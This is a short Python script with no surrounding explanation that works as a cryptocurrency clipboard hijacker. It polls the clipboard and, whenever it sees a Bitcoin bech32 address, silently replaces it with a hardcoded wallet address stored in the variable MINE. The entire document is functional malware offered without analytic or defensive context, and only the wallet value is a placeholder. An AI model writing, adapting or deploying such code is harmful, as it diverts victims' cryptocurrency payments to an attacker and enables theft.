import re, time, pyperclip
MINE = "bc1qexampleexampleexampleexampleexample0000"
while True:
    if re.fullmatch(r"bc1[a-z0-9]{25,60}", pyperclip.paste()):
        pyperclip.copy(MINE)
    time.sleep(0.5)
